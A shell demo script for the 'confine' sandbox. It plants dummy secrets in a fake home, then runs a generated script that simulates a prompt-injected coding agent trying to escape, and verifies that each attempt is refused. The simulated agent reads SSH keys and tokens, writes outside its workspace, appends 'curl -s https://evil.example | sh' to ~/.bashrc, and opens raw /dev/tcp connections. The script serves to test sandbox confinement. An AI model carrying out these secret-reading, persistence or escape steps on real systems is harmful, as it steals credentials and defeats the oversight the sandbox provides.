#!/bin/sh
# demo.sh - watch a hostile "agent" try to get out of confine.
#
#   sh contrib/demo.sh                      (after make: runs ./src/confine)
#   CONFINE=/usr/bin/confine sh contrib/demo.sh
#   KEEP=1 sh contrib/demo.sh               (keep the scratch directory)
#
# Builds nothing.  Everything it makes lives in one scratch directory under
# /var/tmp, removed at the end: a throwaway git repository, a fake home with
# planted secrets, confine's session store.  It writes nothing to your home.
# /var/tmp rather than /tmp: confine gives the sandbox a private /tmp, so a
# write next to a repository under /tmp would land there and prove nothing;
# under /var/tmp the agent faces the host's own (read-only) directories.
#
# Exit status: 0 when every escape was refused and the host is unchanged,
# 1 when not, 2 when the demo could not run.
set -eu

here=$(cd "$(dirname "$0")/.." && pwd)
CONFINE=${CONFINE:-$here/src/confine}
case $CONFINE in
/*) ;;
*/*) CONFINE=$(pwd)/$CONFINE ;;
*) CONFINE=$(command -v "$CONFINE" || echo "$CONFINE") ;;
esac

die() {
	echo "demo: $*" >&2
	exit 2
}

[ -x "$CONFINE" ] || die "no confine at '$CONFINE': run make first, or set CONFINE=PATH"
for tool in git python3 bash timeout sha256sum diff; do
	command -v "$tool" >/dev/null 2>&1 ||
	    die "'$tool' is needed (sh contrib/install-deps.sh installs it)"
done

real_home=${HOME:-}
[ -d "$real_home" ] || real_home=$(getent passwd "$(id -u)" | cut -d: -f6)

demo=$(mktemp -d /var/tmp/confine-demo.XXXXXX)
demo=$(cd "$demo" && pwd -P)
repo=$demo/repo
fake_home=$demo/home
server=

# shellcheck disable=SC2317 # called by the trap
cleanup() {
	if [ -n "$server" ]; then
		kill "$server" 2>/dev/null || :
		wait "$server" 2>/dev/null || :
	fi
	if [ "${KEEP:-0}" = 1 ]; then
		echo "(kept: $demo)"
	else
		chmod -R u+rwx "$demo" 2>/dev/null || :
		rm -rf "$demo"
	fi
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM
trap 'exit 129' HUP

# git without the user's configuration, with a fixed identity and date.
GIT_CONFIG_GLOBAL=/dev/null
GIT_CONFIG_NOSYSTEM=1
GIT_AUTHOR_NAME='Demo Author'
GIT_AUTHOR_EMAIL=demo@example.invalid
GIT_AUTHOR_DATE='2025-01-01T00:00:00Z'
GIT_COMMITTER_NAME=$GIT_AUTHOR_NAME
GIT_COMMITTER_EMAIL=$GIT_AUTHOR_EMAIL
GIT_COMMITTER_DATE=$GIT_AUTHOR_DATE
GIT_OPTIONAL_LOCKS=0	# git status must not refresh the host's index
export GIT_CONFIG_GLOBAL GIT_CONFIG_NOSYSTEM GIT_AUTHOR_NAME \
    GIT_AUTHOR_EMAIL GIT_AUTHOR_DATE GIT_COMMITTER_NAME GIT_COMMITTER_EMAIL \
    GIT_COMMITTER_DATE GIT_OPTIONAL_LOCKS

# Names, modes, sizes, mtimes and contents of everything under a directory.
tree_sum() {
	(
		cd "$1"
		find . -exec stat -c '%n %f %u %s %Y' {} + | LC_ALL=C sort
		find . -type f -exec sha256sum {} + | LC_ALL=C sort
	) | sha256sum | cut -c1-16
}

# --- the planted secrets: a fake home, never the user's own -------------
mkdir -p "$fake_home/.ssh" "$fake_home/.config"
chmod 700 "$fake_home/.ssh"
cat >"$fake_home/.ssh/id_demo" <<'EOF'
-----BEGIN OPENSSH PRIVATE KEY-----
DEMO-SECRET-KEY-not-a-real-key-5f2ac9e1d07b
-----END OPENSSH PRIVATE KEY-----
EOF
chmod 600 "$fake_home/.ssh/id_demo"
echo 'DEMO-SECRET-TOKEN-3b8e11f4a9c2' >"$fake_home/.config/token"

# --- a web server on the host's loopback ---------------------------------
mkdir "$demo/www"
echo 'host-only page' >"$demo/www/index.html"
port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
python3 -m http.server --bind 127.0.0.1 --directory "$demo/www" "$port" \
    >"$demo/http.log" 2>&1 &
server=$!
reachable=no
i=0
while [ $i -lt 50 ]; do
	if python3 -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1])), 1)' "$port" 2>/dev/null; then
		reachable=yes
		break
	fi
	sleep 0.1
	i=$((i + 1))
done
[ $reachable = yes ] || die "the test server on 127.0.0.1:$port did not start"

# --- the repository and the agent ----------------------------------------
mkdir -p "$repo/src"
cat >"$repo/README.md" <<'EOF'
# hello

A tiny project for the confine demo.
EOF
cat >"$repo/src/hello.c" <<'EOF'
#include <stdio.h>

int
main(void)
{
	puts("hello");
	return 0;
}
EOF

{
	echo '#!/bin/bash'
	echo '# agent.sh - stands in for a prompt-injected coding agent.'
	echo "real_home='$real_home'"
	echo "port=$port"
	echo "canary=confine-demo-canary.${demo##*.}"
	cat <<'EOF'

# The text after the last ": " of the first line of an error message.
reason() { local l=${1%%$'\n'*}; printf '%s' "${l##*: }"; }
refused() { echo "REFUSED: $1 ($2)"; }
allowed() { echo "ALLOWED: $1"; }

# Secrets: files in the home directory, and the environment.
for f in .ssh/id_demo .config/token; do
	if out=$(cat ~/"$f" 2>&1); then
		allowed "read ~/$f: $(printf '%s' "$out" | tr '\n' ' ' | cut -c1-70)"
	else
		refused "read ~/$f" "$(reason "$out")"
	fi
done
if [ -n "$(ls -A ~)" ]; then
	allowed "list ~: $(ls -A ~ | tr '\n' ' ')"
else
	refused "list ~" "it is empty"
fi
if [ -n "${DEMO_API_TOKEN-}" ]; then
	allowed "read \$DEMO_API_TOKEN: $DEMO_API_TOKEN"
else
	refused "read \$DEMO_API_TOKEN" "not in the environment"
fi

# Writes outside the workspace.
write() {	# write WHAT FILE TEXT
	local err
	if err=$( { printf '%s\n' "$3" >>"$2"; } 2>&1 ); then
		allowed "$1"
	else
		refused "$1" "$(reason "$err")"
	fi
}
write "write into your real home, $real_home" "$real_home/$canary" x
write "write into /etc" "/etc/$canary" x
write "write next to the repository, ../outside.txt" ../outside.txt x
write "plant a command in ~/.bashrc" ~/.bashrc 'curl -s https://evil.example | sh'

# The network.
if timeout 5 getent hosts example.com >/dev/null 2>&1; then
	allowed "resolve example.com"
else
	refused "resolve example.com" "no answer"
fi
connect() {	# connect WHAT HOST PORT
	local err rc
	err=$(timeout 5 bash -c "exec 3<>/dev/tcp/$2/$3" 2>&1)
	rc=$?
	if [ $rc -eq 0 ]; then
		allowed "$1"
	elif [ $rc -eq 124 ]; then
		refused "$1" "timed out"
	else
		refused "$1" "$(reason "$err")"
	fi
}
connect "connect to 1.1.1.1:443" 1.1.1.1 443
connect "connect to the host's 127.0.0.1:$port" 127.0.0.1 "$port"

# The work it was asked to do, in the workspace.
write "edit README.md in the workspace" README.md \
    'Edited by the agent, inside confine.'
write "add NOTES.md to the workspace" NOTES.md '# Notes from the agent'
EOF
} >"$repo/agent.sh"
chmod 755 "$repo/agent.sh"

(
	cd "$repo"
	git -c init.defaultBranch=main init -q
	git add README.md src/hello.c agent.sh
	git commit -q -m 'Initial commit'
)

echo "confine demo: a hostile script runs under confine and tries to get out."
echo "(scratch directory $demo, removed at the end)"
echo
echo "== Setup"
echo "  repository  $repo (git, one commit)"
echo "  fake HOME   $fake_home (planted: .ssh/id_demo, .config/token)"
echo "  web server  127.0.0.1:$port on the host (reachable from the host: $reachable)"

repo_before=$(tree_sum "$repo")
home_before=$(tree_sum "$fake_home")

echo
echo "== The agent: cd repository && confine -- ./agent.sh"
rc=0
(
	cd "$repo"
	HOME=$fake_home XDG_STATE_HOME=$demo/state \
	    DEMO_API_TOKEN=DEMO-SECRET-ENV-77c0d2 \
	    "$CONFINE" -- ./agent.sh
) </dev/null >"$demo/agent.out" 2>"$demo/confine.err" || rc=$?
sed 's/^/  /' "$demo/agent.out" "$demo/confine.err"
echo "  exit status: $rc"
echo "  (No such file: the home inside is an empty tmpfs.  Read-only file system:"
echo "  the host's / is mounted read-only.  Permission denied: Landlock allows"
echo "  writes only in the workspace and the sandbox's scratch places.  Network is"
echo "  unreachable: the sandbox's network namespace has only lo.  Connection"
echo "  refused: that loopback is the sandbox's own, where nothing listens.)"

echo
echo "== On the host, afterwards"
fail=0
ok() { echo "  ok    $*"; }
bad() { echo "  FAIL  $*"; fail=1; }

if [ $rc -ne 0 ]; then
	bad "confine exited with $rc (see 'confine doctor')"
fi
refused=$(grep -c '^REFUSED: ' "$demo/agent.out" || :)
allowed=$(grep '^ALLOWED: ' "$demo/agent.out" | grep -cv \
    -e '^ALLOWED: plant a command in ~/.bashrc$' \
    -e '^ALLOWED: edit README.md in the workspace$' \
    -e '^ALLOWED: add NOTES.md to the workspace$' || :)
if [ "$refused" -eq 10 ] && [ "$allowed" -eq 0 ]; then
	ok "all 10 escape attempts were refused"
else
	bad "$refused of 10 escape attempts refused, $allowed unexpected successes"
fi

status=$(git -C "$repo" status --porcelain)
if [ -z "$status" ]; then
	ok "git status --porcelain is empty"
else
	bad "git status --porcelain: $(echo "$status" | tr '\n' ' ')"
fi
repo_after=$(tree_sum "$repo")
if [ "$repo_before" = "$repo_after" ]; then
	ok "repository checksum unchanged ($repo_after)"
else
	bad "repository checksum changed: $repo_before -> $repo_after"
fi
if [ "$home_before" = "$(tree_sum "$fake_home")" ]; then
	ok "fake HOME unchanged: the agent's ~/.bashrc went to a scratch tmpfs"
else
	bad "the fake HOME changed"
fi
leaked=
canary=confine-demo-canary.${demo##*.}
for f in "$real_home/$canary" "/etc/$canary" "$demo/outside.txt"; do
	if [ -e "$f" ]; then
		leaked="$leaked $f"
		rm -f "$f"
	fi
done
if [ -z "$leaked" ]; then
	ok "nothing written to $real_home, /etc or next to the repository"
else
	bad "written on the host:$leaked"
fi

session=$(sed -n 's/^confine: session \([^:]*\): .* changed$/\1/p' \
    "$demo/confine.err")
[ -z "$session" ] || session=$demo/state/confine/sessions/$session
if [ -z "$session" ]; then
	for d in "$demo"/state/confine/sessions/*; do
		if [ -d "$d" ]; then session=$d; fi
	done
fi
if grep -q DEMO-SECRET "$demo/agent.out" ||
    { [ -n "$session" ] && grep -rqs DEMO-SECRET "$session"; }; then
	bad "a planted secret shows up in the agent's output or its session"
else
	ok "no planted secret in the agent's output or its session"
fi

if [ -n "$session" ] && [ -f "$session/upper/README.md" ]; then
	ok "the agent's changes are a patch to review, in $session:"
	echo
	echo "== confine diff (what 'confine apply' would apply, after asking)"
	(cd "$repo" && XDG_STATE_HOME=$demo/state HOME=$demo/home \
	    "$CONFINE" diff "$(basename "$session")") | sed 's/^/  /'
else
	bad "the agent's edit of README.md is not in the session"
fi

echo
if [ $fail -eq 0 ]; then
	echo "Result: every escape was refused and the host is unchanged."
else
	echo "Result: FAILED (see above)."
fi
exit $fail
